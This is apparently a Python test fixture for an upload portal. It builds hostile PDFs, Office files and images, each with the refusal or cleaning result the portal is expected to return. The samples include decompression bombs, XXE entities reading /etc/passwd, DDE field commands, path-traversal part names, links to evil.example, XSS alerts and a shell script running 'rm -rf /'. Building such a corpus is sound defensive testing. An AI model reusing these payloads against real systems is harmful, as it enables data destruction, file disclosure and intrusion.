"""The hostile corpus: files that mean harm, each with the answer it must get. They are built when asked for.

`REFUSED` never reach the shelf; `CLEANED` do, and their copy holds nothing of what made them hostile.
"""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.portal.lib import evil


@dataclass(frozen=True)
class Hostile:
    """A file and the code of its refusal; for what is cleaned, bytes that must not be in the copy."""

    name: str
    build: Callable[[Path], Path]
    answer: str

    def __str__(self) -> str:
        return self.name


def written(content: bytes) -> Callable[[Path], Path]:
    def build(path: Path) -> Path:
        path.write_bytes(content)
        return path

    return build


def cut(build: Callable[[Path], Path], share: float) -> Callable[[Path], Path]:
    """The first part of another file."""

    def shorter(path: Path) -> Path:
        content = build(path).read_bytes()
        path.write_bytes(content[: int(len(content) * share)])
        return path

    return shorter


# PDFs


def ten_thousand_pages(path: Path) -> Path:
    pdf = evil.blank()
    box = Array([0, 0, 595, 842])
    kids = [pdf.make_indirect(Dictionary(Type=Name.Page, MediaBox=box)) for _ in range(10_000)]
    for kid in kids:
        kid.Parent = pdf.Root.Pages
    pdf.Root.Pages.Kids = Array(kids)
    pdf.Root.Pages.Count = len(kids)
    return evil.saved(pdf, path)


def tree_of(change: Callable[[pikepdf.Pdf], None]) -> Callable[[Path], Path]:
    def build(path: Path) -> Path:
        pdf = evil.blank()
        change(pdf)
        return evil.saved(pdf, path)

    return build


def no_pages(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Pages.Kids = Array([])
    pdf.Root.Pages.Count = 0


def circle_of_pages(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Pages.Kids = Array([pdf.Root.Pages])


def box(*sides: float) -> Callable[[Path], Path]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.MediaBox = Array(list(sides))

    return tree_of(change)


def stream_bomb(key: str) -> Callable[[Path], Path]:
    """A hundred and fifty megabytes in a few kilobytes, in a place that renderers open."""

    def change(pdf: pikepdf.Pdf) -> None:
        packer, piece = zlib.compressobj(9), bytes(1 << 20)
        packed = b"".join(packer.compress(piece) for _ in range(150)) + packer.flush()
        stream = pdf.make_stream(b"")
        stream.write(packed, filter=Name.FlateDecode, decode_parms=None)
        if key == "form":
            stream.Type, stream.Subtype, stream.BBox = Name.XObject, Name.Form, Array([0, 0, 9, 9])
            pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=stream))
        else:
            descriptor = Dictionary(Type=Name.FontDescriptor, FontFile2=stream)
            font = Dictionary(Type=Name.Font, Subtype=Name.TrueType, FontDescriptor=descriptor)
            pdf.pages[0].obj.Resources = Dictionary(Font=Dictionary(F=font))

    def build(path: Path) -> Path:
        pdf = evil.blank()
        change(pdf)
        return evil.saved(
            pdf, path, recompress_flate=False, stream_decode_level=pikepdf.StreamDecodeLevel.none
        )

    return build


def strange_lock(path: Path) -> Path:
    content = evil.locked(path).read_bytes()
    path.write_bytes(content.replace(b"/Standard", b"/Stranger"))
    return path


PDFS = [
    Hostile("PDF: a page tree of a hundred million", evil.page_tree_trick, "broken"),
    Hostile("PDF: 201 pages", evil.many_pages, "too_many_pages"),
    Hostile("PDF: ten thousand pages", ten_thousand_pages, "too_many_pages"),
    Hostile("PDF: a page of seven hundred metres", evil.huge_page, "page_too_large"),
    Hostile("PDF: a page without width", box(0, 0, 0, 842), "page_too_large"),
    Hostile("PDF: a page inside out without end", box(-9e9, 0, 9e9, 842), "page_too_large"),
    Hostile("PDF: no pages", tree_of(no_pages), "no_pages"),
    Hostile("PDF: pages in a circle", tree_of(circle_of_pages), "broken"),
    Hostile("PDF: a page packed twice", evil.deflated_twice, "bomb"),
    Hostile("PDF: a bomb in a form", stream_bomb("form"), "bomb"),
    Hostile("PDF: a bomb in a font", stream_bomb("font"), "bomb"),
    Hostile("PDF: locked", evil.locked, "encrypted"),
    Hostile("PDF: locked against printing", evil.restricted, "encrypted"),
    Hostile("PDF: locked in a strange way", strange_lock, "broken"),
    Hostile("PDF: cut short", evil.truncated, "broken"),
    Hostile("PDF: nothing but its first line", written(b"%PDF-1.7\n"), "broken"),
    Hostile("PDF: rubbish after its first line", written(b"%PDF-1.7\n" + bytes(range(256)) * 40), "broken"),
    Hostile(
        "PDF: a trailer in a circle", written(b"%PDF-1.7\ntrailer<</Prev 9>>\nstartxref\n9\n%%EOF"), "broken"
    ),
    Hostile("PDF: a page of the web before it", evil.web_page_before_pdf, "not_taken"),
]

# Office


def parts(more: dict[str, str | bytes]) -> Callable[[Path], Path]:
    return lambda path: evil.office(path, more)


def letter(more: dict[str, str | bytes], kind: str = evil.DOCX) -> Callable[[Path], Path]:
    return lambda path: evil.office(path, more, main="word/document.xml", kind=kind)


def tie(target: str, kind: str) -> Callable[[Path], Path]:
    return letter({"word/_rels/document.xml.rels": evil.relation(target, kind)})


def slide(inside: str) -> Callable[[Path], Path]:
    return parts({"ppt/slides/slide1.xml": inside})


def field(code: str) -> Callable[[Path], Path]:
    return letter({"word/header1.xml": f"<w><p><instrText> {code} </instrText></p></w>"})


def two_mains(path: Path) -> Path:
    return evil.office(path, {"word/document.xml": "<a/>"})


def no_types(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as made:
        made.writestr("ppt/presentation.xml", "<a/>")
    return path


def linked_away(path: Path) -> Path:
    evil.office(path, {})
    with zipfile.ZipFile(path, "a") as made:
        part = zipfile.ZipInfo("ppt/media/image1.png")
        part.external_attr = (stat.S_IFLNK | 0o777) << 16
        made.writestr(part, "/etc/passwd")
    return path


def twice_the_same(path: Path) -> Path:
    return evil.office(path, {"ppt/slides/slide1.xml": "<a/>", "ppt/slides/SLIDE1.xml": "<a/>"})


def many_parts(path: Path) -> Path:
    return evil.office(path, {f"ppt/slides/slide{n}.xml": "<a/>" for n in range(5_001)})


def flagged_locked(path: Path) -> Path:
    content = evil.office(path, {}).read_bytes()
    # The flag in the table of contents, as a packer with a password sets it.
    where = content.index(b"PK\x01\x02") + 8
    path.write_bytes(content[:where] + b"\x01" + content[where + 1 :])
    return path


def lying_size(path: Path) -> Path:
    """A part that is larger than the table of contents says."""
    content = evil.office(path, {"ppt/slides/slide1.xml": "<a>" + "b" * 5000 + "</a>"}).read_bytes()
    where = content.rindex(b"PK\x01\x02") + 24
    path.write_bytes(content[:where] + struct.pack("<I", 10) + content[where + 4 :])
    return path


def deep(path: Path) -> Path:
    return evil.office(path, {"ppt/slides/slide1.xml": "<a>" * 10_000 + "</a>" * 10_000})


LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]><l>&c;</l>'
OUTER = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'

SIXTEEN = ('<?xml version="1.0" encoding="utf-16"?>' + OUTER).encode("utf-16")

OFFICE = [
    Hostile("Office: a bomb", evil.bomb_deck, "bomb"),
    Hostile("Office: macros", evil.macro_deck, "acts"),
    Hostile("Office: a type with macros", evil.macro_typed_deck, "acts"),
    Hostile(
        "Office: a letter's type with macros",
        letter({}, "application/vnd.ms-word.document.macroEnabled.main+xml"),
        "acts",
    ),
    Hostile("Office: a program", evil.program_deck, "acts"),
    Hostile("Office: a link that runs a program", evil.action_deck, "acts"),
    Hostile(
        "Office: a link that runs a macro",
        slide('<a><hlinkHover action="ppaction://macro?name=x"/></a>'),
        "acts",
    ),
    Hostile("Office: an entity", evil.entity_deck, "acts"),
    Hostile("Office: a billion laughs", parts({"docProps/core.xml": LAUGHS}), "acts"),
    Hostile("Office: an entity from outside", letter({"word/footnotes.xml": OUTER}), "acts"),
    Hostile("Office: an entity in the relations", parts({"ppt/_rels/presentation.xml.rels": OUTER}), "acts"),
    Hostile("Office: an entity in sixteen bits", parts({"ppt/slides/slide1.xml": SIXTEEN}), "acts"),
    Hostile(
        "Office: a type of its own",
        letter({"customXml/item1.xml": "<!DOCTYPE a SYSTEM 'https://evil.example/a.dtd'><a/>"}),
        "acts",
    ),
    Hostile("Office: elements without end", deep, "bomb"),
    Hostile("Office: a control", parts({"ppt/activeX/activeX1.xml": "<a/>"}), "acts"),
    Hostile("Office: a form's control", parts({"xl/ctrlProps/ctrlProp1.xml": "<a/>"}), "acts"),
    Hostile(
        "Office: an object of a program",
        parts({"ppt/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        "acts",
    ),
    Hostile("Office: an object on a slide", slide("<a><oleObj/></a>"), "acts"),
    Hostile("Office: an object in a letter", letter({"word/header1.xml": "<w><OLEObject/></w>"}), "acts"),
    Hostile("Office: a letter in a deck", parts({"ppt/embeddings/letter.docx": b"PK"}), "acts"),
    Hostile(
        "Office: a page of the web in a letter",
        letter({"word/afchunk.html": "<script>alert(1)</script>"}),
        "acts",
    ),
    Hostile(
        "Office: a script in a drawing",
        parts({"ppt/media/image1.svg": "<svg><script>alert(1)</script></svg>"}),
        "acts",
    ),
    Hostile("Office: an entity in a drawing", parts({"ppt/media/image1.svg": OUTER}), "acts"),
    Hostile("Office: macros behind a chart", evil.macro_chart, "acts"),
    Hostile(
        "Office: a table in a table",
        parts({"ppt/embeddings/a.xlsx": evil.book("xl/workbook.xml", "xl/b.xlsx")}),
        "outside",
    ),
    Hostile(
        "Office: a table that links out",
        parts({"ppt/embeddings/a.xlsx": evil.book("xl/externalLinks/externalLink1.xml")}),
        "outside",
    ),
    Hostile("Office: a table that is none", parts({"ppt/embeddings/a.xlsx": b"PK no table"}), "broken"),
    Hostile("Office: a picture from the web", evil.reaching_deck, "outside"),
    Hostile("Office: a share", evil.share_deck, "outside"),
    Hostile("Office: a script as a link", tie("javascript:alert(1)", "hyperlink"), "outside"),
    Hostile("Office: a letter within a letter", tie("https://evil.example/a.docx", "subDocument"), "outside"),
    Hostile("Office: a frame from the web", tie("https://evil.example/", "frame"), "outside"),
    Hostile("Office: an object from the web", tie("https://evil.example/a.rtf", "oleObject"), "outside"),
    Hostile("Office: a sound from a share", tie("file://server/a.wav", "audio"), "outside"),
    Hostile("Office: a command in pieces", evil.dde_letter, "outside"),
    Hostile("Office: a command in one piece", field('DDEAUTO c:\\\\x.exe "a"'), "outside"),
    Hostile("Office: a text from outside", field('INCLUDETEXT "\\\\\\\\server\\\\a"'), "outside"),
    Hostile(
        "Office: a picture from outside", field('INCLUDEPICTURE "https://evil.example/a.png"'), "outside"
    ),
    Hostile("Office: a link to a table", field("LINK Excel.Sheet.12 a.xlsx"), "outside"),
    Hostile(
        "Office: a simple field from outside",
        letter({"word/header1.xml": '<w><fldSimple instr="INCLUDETEXT a"/></w>'}),
        "outside",
    ),
    Hostile("Office: a name that climbs", evil.slipping_deck, "broken"),
    Hostile("Office: a name from the root", parts({"/etc/cron.d/x.xml": "<a/>"}), "broken"),
    Hostile("Office: a name of another system", parts({"ppt\\..\\..\\x.xml": "<a/>"}), "broken"),
    Hostile("Office: a name with a drive", parts({"c:/x.xml": "<a/>"}), "broken"),
    Hostile("Office: a part that is a link", linked_away, "broken"),
    Hostile("Office: a part that is there twice", twice_the_same, "broken"),
    Hostile("Office: five thousand parts", many_parts, "bomb"),
    Hostile("Office: a part larger than it says", lying_size, "broken"),
    Hostile("Office: locked", parts({"EncryptedPackage": b"x"}), "encrypted"),
    Hostile("Office: locked part by part", flagged_locked, "encrypted"),
    Hostile("Office: a deck and a letter at once", two_mains, "not_office"),
    Hostile("Office: without a list of types", no_types, "not_office"),
    Hostile("Office: a packed file", evil.only_a_zip, "not_office"),
    Hostile("Office: words that are not well-formed", slide("<a><b></a>"), "broken"),
    Hostile("Office: cut short", cut(evil.program_deck, 0.6), "broken"),
]

# Pictures, and what is none


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(*chunks: bytes, size: tuple[int, int] = (2, 2)) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", *size, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + chunk(b"IEND", b"")


def picture(kind: str, size: tuple[int, int] = (40, 20)) -> bytes:
    file = io.BytesIO()
    Image.effect_noise(size, 50).convert("RGB").save(file, format=kind)
    return file.getvalue()


DOTS = chunk(b"IDAT", zlib.compress(bytes(14)))
MOVING = (
    chunk(b"acTL", struct.pack(">II", 2, 0))
    + chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 2, 2, 0, 0, 1, 10, 0, 0))
    + DOTS
    + chunk(b"fcTL", struct.pack(">IIIIIHHBB", 1, 2, 2, 0, 0, 1, 10, 0, 0))
    + chunk(b"fdAT", struct.pack(">I", 2) + zlib.compress(bytes(14)))
)

PICTURES = [
    Hostile("picture: nine hundred million dots", evil.pixel_flood, "too_many_pixels"),
    Hostile(
        "picture: sides without end",
        written(png(DOTS, size=(2_000_000_000, 2_000_000_000))),
        "too_many_pixels",
    ),
    Hostile("picture: a moving WebP", evil.moving_picture, "animated"),
    Hostile("picture: a moving PNG", written(png(MOVING)), "animated"),
    Hostile(
        "picture: words that unpack without end",
        written(png(chunk(b"zTXt", b"a\x00\x00" + zlib.compress(bytes(80_000_000))), DOTS)),
        "broken",
    ),
    Hostile("picture: a PNG without dots", written(png()), "broken"),
    Hostile("picture: a PNG whose sums are wrong", written(png(DOTS).replace(b"IDAT", b"IDAX")), "broken"),
    Hostile("picture: half a JPEG", written(picture("JPEG", (400, 400))[:3000]), "broken"),
    Hostile("picture: half a PNG", written(picture("PNG", (400, 400))[:3000]), "broken"),
    Hostile("picture: half a WebP", written(picture("WEBP", (400, 400))[:300]), "broken"),
    Hostile(
        "picture: a page of the web that begins like a picture",
        written(b"\x89PNG\r\n\x1a\n<html><script>"),
        "broken",
    ),
    Hostile(
        "picture: a script that begins like a picture",
        written(b"\xff\xd8\xff/*<script>alert(1)</script>*/"),
        "broken",
    ),
]
NEITHER = [
    Hostile("plain words", evil.renamed_text, "not_taken"),
    Hostile("nothing", written(b""), "empty"),
    Hostile("a drawing with a script", written(b"<svg><script>alert(1)</script></svg>"), "not_taken"),
    Hostile("a page of the web", written(b"<!doctype html><script>alert(1)</script>"), "not_taken"),
    Hostile("a program of Windows", written(b"MZ\x90\x00" + bytes(60)), "not_taken"),
    Hostile("a program of Linux", written(b"\x7fELF\x02" + bytes(60)), "not_taken"),
    Hostile("a script of the shell", written(b"#!/bin/sh\nrm -rf /\n"), "not_taken"),
    Hostile("an old letter", written(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(60)), "not_taken"),
    Hostile("rich text", written(b"{\\rtf1\\object\\objocx}"), "not_taken"),
    Hostile("PostScript", written(b"%!PS\n(a) run"), "not_taken"),
    Hostile("a moving GIF", written(b"GIF89a" + bytes(60)), "not_taken"),
    Hostile("a TIFF", written(picture("TIFF")), "not_taken"),
    Hostile("a BMP", written(picture("BMP")), "not_taken"),
    Hostile("an empty packed file", written(b"PK\x05\x06" + bytes(18)), "not_taken"),
    Hostile("a packed file of another kind", written(b"7z\xbc\xaf\x27\x1c" + bytes(60)), "not_taken"),
]

REFUSED = [*PDFS, *OFFICE, *PICTURES, *NEITHER]


def two_in_one(first: Callable[[Path], Path], more: bytes) -> Callable[[Path], Path]:
    """A harmless file with another behind it."""

    def build(path: Path) -> Path:
        path.write_bytes(first(path).read_bytes() + more)
        return path

    return build


def submitting(path: Path) -> Path:
    pdf = evil.blank()
    send = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))
    button = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("b"), Rect=Array([0, 0, 9, 9]), A=send
        )
    )
    pdf.pages[0].obj.Annots = Array([button])
    pdf.Root.AcroForm = Dictionary(Fields=Array([button]))
    return evil.saved(pdf, path)


def playing(path: Path) -> Path:
    pdf = evil.blank()
    pdf.pages[0].obj.Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.RichMedia,
                Rect=Array([0, 0, 9, 9]),
                Contents=String("evilmedia"),
            )
        ]
    )
    return evil.saved(pdf, path)


CLEANED = [
    Hostile("scripts", evil.opening_script, "alert"),
    Hostile("programs to launch", evil.launching, "cmd.exe"),
    Hostile("a program inside", evil.embedding, "MZ this would"),
    Hostile("a form of the old kind", evil.forms_of_old, "<xdp"),
    Hostile("a form that sends itself", submitting, "evil.example"),
    Hostile("a film of another program", playing, "evilmedia"),
    Hostile(
        "a PDF that is a packed file too",
        two_in_one(lambda p: evil.saved(evil.blank(), p), b"PK\x03\x04evil.exe"),
        "evil.exe",
    ),
    Hostile("a JPEG that is a page of the web too", evil.photograph, "<script>"),
    Hostile("a PNG that is a program too", written(png(DOTS) + b"MZ evil.exe"), "evil.exe"),
    Hostile(
        "a PNG with a script in its words",
        written(png(chunk(b"tEXt", b"a\x00<script>evil</script>"), DOTS)),
        "<script>",
    ),
]
